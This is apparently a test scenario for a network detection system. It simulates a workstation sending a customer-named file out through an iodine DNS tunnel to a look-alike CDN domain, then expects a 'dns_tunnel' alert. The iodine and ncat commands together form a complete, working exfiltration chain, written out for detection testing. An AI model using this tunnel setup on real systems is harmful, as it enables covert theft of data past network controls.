# what: a PC sends a file out through DNS queries (twin: dns_lookups)
# real: iodined and iodine, curl inside the tunnel; dnsmasq forwards the queries
# packages: iodine ncat iputils-ping
# dnsmasq: --server=/hikari-cdn.net/51.79.150.23
ip -n net addr add 51.79.150.23/32 dev lo
domain=t.hikari-cdn.net
[ -c /dev/net/tun ] || skip "no /dev/net/tun here"
bg net iodined -f -c -P himitsu -l 51.79.150.23 10.99.7.1/27 $domain
host EIGYO-NOTE windows
sleep 1
bg EIGYO-NOTE iodine -f -r -P himitsu -T TXT -m 200 "$GW" $domain
for ((i = 0; i < 60; i++)); do on EIGYO-NOTE ip addr show dev dns0 2>/dev/null | grep -q 10.99 && break; sleep 0.5; done
bg net ncat -l 10.99.7.1 7000 --recv-only -o $W/got
sleep 1
head -c 8000 /dev/urandom >$W/kokyaku.csv
on EIGYO-NOTE timeout 40 ncat --send-only 10.99.7.1 7000 <$W/kokyaku.csv >>$W/log/ncat 2>&1
on EIGYO-NOTE ping -c 5 -i 0.5 10.99.7.1 >>$W/log/ncat 2>&1
sleep 5
alert dns_tunnel act_now EIGYO-NOTE
